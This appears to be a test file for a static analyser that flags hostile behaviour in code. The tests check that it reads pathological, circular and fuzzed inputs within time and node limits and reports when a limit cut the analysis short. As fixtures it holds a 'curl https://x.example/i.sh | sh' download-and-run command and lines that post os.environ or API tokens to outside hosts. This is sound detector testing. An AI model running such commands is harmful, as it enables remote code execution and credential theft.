"""Code that is made to tire out or to break whoever reads it is read within bounds, and the bound is told."""

from __future__ import annotations

import dataclasses
import itertools
import random
import time
from typing import Final

import pytest

from driftseal.code.front_ends import lower
from driftseal.code.project import Project
from driftseal.limits import DEFAULT_LIMITS, Limits
from driftseal.observe.behaviour import exfiltration
from driftseal.observe.behaviour.base import Facts
from driftseal.observe.behaviour.families import look
from growth import AGES

_PIECES: Final = (
    *(
        "process.env",
        "os.environ",
        "eval(",
        "exec(",
        "atob(x)",
        "=>",
        "function f() {",
        "}",
        "{",
        "(",
        ")",
        "[",
        "]",
        ",",
    ),
    *(
        "import os",
        "if",
        "while True:",
        "return x",
        "'~/.ssh/id_rsa'",
        "fetch('https://x.example', {body: y})",
        "\n",
        "\n  ",
    ),
    *(
        "this.x = ",
        "self.x = self.x",
        "def f(x):",
        "class A:",
        "`${",
        "}`",
        "lambda x: x",
        ".then(x => ",
        ".map(",
        "...",
        "'",
    ),
    *(
        "bcc:",
        "a.b.c.d",
        "x[1:2]",
        "+ chr(1)",
        ".join('')",
        "requests.post(u, json=d)",
        "subprocess.run(c, shell=True)",
        "=",
    ),
)


def _project(files: dict[str, str]) -> Project:
    modules = {}
    for path, text in files.items():
        module = lower(text.encode(), path, DEFAULT_LIMITS)
        assert module is not None
        modules[path] = module
    return Project(modules)


def _facts(files: dict[str, str], limits: Limits = DEFAULT_LIMITS) -> Facts:
    return look(_project(files), {}, limits)


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("a.js", "f(" * 20_000 + "process.env" + ")" * 20_000),
        ("a.js", "x = " + "a + " * 50_000 + "process.env; fetch('https://x.example', {body: x});"),
        ("a.js", "x" + ".then(y => y)" * 20_000),
        ("a.js", "const a0 = process.env;\n" + "".join(f"const a{n + 1} = a{n};\n" for n in range(20_000))),
        (
            "a.js",
            "".join(f"function f{n}() {{ return f{n + 1}(); }}\n" for n in range(5000)) + "fetch('https://x', f0())",
        ),
        ("a.js", "".join(f"function f{n}() {{ return f{(n + 1) % 3000}(); }}\n" for n in range(3000))),
        ("a.py", "import os\nx = os.path.join(" * 400 + "'.ssh'" + ")" * 400),
        ("a.py", "import os\nx = 'a' / " + "'b' / " * 20_000 + "'.ssh'\nopen(x, 'w')\n"),
        ("a.py", "class A:\n    def f(self):\n" + "        self.a = self.b\n        self.b = self.a\n" * 5000),
        ("a.py", "import os, requests\ndef f():\n" + "    requests.post('https://x', json=os.environ)\n" * 5000),
        ("a.js", "function f({ channel, text }) {\n" + "  s.postMessage({ channel: 'C1', text });\n" * 5000 + "}\n"),
        (
            "a.js",
            "function f(text) {\n" + "  fetch('https://x.example', { body: text }).catch(() => {});\n" * 3000 + "}\n",
        ),
        (
            "a.js",
            "".join(f"import {{ env as e{n} }} from 'm{n}';\n" for n in range(2000)) + "f(e1, e2.x);\n" * 5000,
        ),
        ("a.py", "x = '" + "A" * 5_000_000 + "'\n"),
        ("a.py", "a = b.c\nb = a.c\ndef f():\n    a = a.e\n" + "    if a.e > 3:\n        os.system(a[b.c])\n" * 50),
        ("a.py", "def f():\n" + "    if x > 3:\n        y = 1\n" * 20_000),
    ],
)
def test_deep_long_and_circular_code_is_read_in_time(path: str, text: str) -> None:
    started = time.process_time()
    _facts({path: text})
    assert time.process_time() - started < AGES


def test_a_helper_that_calls_itself_gives_nothing_back_by_that() -> None:
    text = "def f(x):\n    return g(x)\n\n\ndef g(x):\n    return f(x)\n\n\ndef h():\n    post('https://x', f(1))\n"
    assert _facts({"a.py": text}) == Facts((), complete=True)


def test_the_bound_on_nodes_is_told() -> None:
    few = dataclasses.replace(DEFAULT_LIMITS, behaviour_steps=50)
    found = _facts({"a.py": "import os\n" + "os.system('id')\n" * 100}, few)
    assert found == Facts((), complete=False)


def test_where_a_large_function_has_no_room_the_others_are_looked_at() -> None:
    few = dataclasses.replace(DEFAULT_LIMITS, behaviour_nodes=50)
    large = "def f():\n" + "    g(1)\n" * 100
    small = "def h():\n    os.system('curl https://x.example/i.sh | sh')\n"
    found = _facts({"a.py": f"import os\n{large}\n\n{small}"}, few)
    assert [fact.line for fact in found.facts] == [106]
    assert not found.complete


def test_the_bound_on_facts_is_told() -> None:
    few = dataclasses.replace(DEFAULT_LIMITS, behaviour_facts=3)
    found = _facts({"a.py": "import os\n" + "os.system('curl https://x.example/i.sh | sh')\n" * 100}, few)
    assert (len(found.facts), found.complete) == (3, False)


def test_nothing_is_said_to_be_missing_of_code_that_was_not_read_to_its_end(monkeypatch: pytest.MonkeyPatch) -> None:
    """Wherever the time ends, the check that comes last is not overlooked."""
    made = "const t = new StreamableHTTPServerTransport({});\n"
    checks = "function last(req) { if (req.headers['origin'] !== OWN) throw new Error('no'); }\n"
    between = "".join(f"function f{number}() {{ return {number}; }}\n" for number in range(200))
    assert [fact.name for fact in _facts({"a.js": made + between}).facts] == ["origin-unchecked"]
    project = _project({"a.js": made + between + checks})
    ended = []
    for looks in range(400):
        clock = itertools.chain([0.0] * looks, itertools.repeat(1e9))
        monkeypatch.setattr(time, "thread_time", lambda clock=clock: next(clock))
        found = look(project, {}, DEFAULT_LIMITS)
        ended.append(found.complete)
        assert found.facts == ()
    assert {False, True} == set(ended)


def test_a_long_text_is_read_to_its_end() -> None:
    text = f'import os\nos.system("echo {"a" * 100_000}; curl https://x.example/i.sh | sh")\n'
    (fact,) = _facts({"a.py": text}).facts
    assert (fact.name, fact.line) == ("download-run", 2)


@pytest.mark.parametrize("path", ["a.py", "a.js", "a.ts"])
def test_scraps_of_code_in_any_order_are_read_without_failing(path: str) -> None:
    draw = random.Random(path)  # noqa: S311  a fixed seed makes a failure come back
    for _ in range(150):
        text = " ".join(draw.choice(_PIECES) for _ in range(draw.randrange(1, 120)))
        _facts({path: text})


def test_a_variable_that_is_set_to_a_part_of_itself_is_followed_to_an_end() -> None:
    own = 'def f():\n    x = x["k"]\n    os.system(x["k"])\n'
    other = 'def g():\n    a = b["k"]\n    b = a["k"]\n    os.system(a["k"])\n'
    assert _facts({"a.py": f"import os\n\n\n{own}\n\n{other}"}) == Facts((), complete=True)


def test_an_object_that_makes_another_with_what_it_was_made_with_is_followed_to_an_end() -> None:
    text = """class Site {
      constructor(place) { this.place = place; }
      again() { const place = this.place; return new Site(place); }
      ask() { return fetch(this.place); }
    }"""
    assert _facts({"a.js": text}) == Facts((), complete=True)


def test_a_place_that_takes_what_anyone_sends_may_have_a_broken_address() -> None:
    assert exfiltration._host("https://webhook.site]/abcd") == "a broken address"
    assert exfiltration._host("https://webhook.site/abcd") == "webhook.site"


def test_fields_that_many_methods_fill_from_one_another_are_followed_in_little_time() -> None:
    names = [f"f{number}" for number in range(14)]
    methods = "".join(
        f"  m{one}() {{ this.{one}.push({', '.join(f'this.{other}' for other in names)}); }}\n" for one in names
    )
    text = f"class Many {{\n{methods}  load() {{ return fetch(process.env.API_TOKEN); }}\n}}\n"
    module = lower(text.encode(), "index.js", DEFAULT_LIMITS)
    assert module is not None
    started = time.thread_time()
    look(Project({"index.js": module}), {}, DEFAULT_LIMITS)
    assert time.thread_time() - started < 5  # a hundred times what it takes
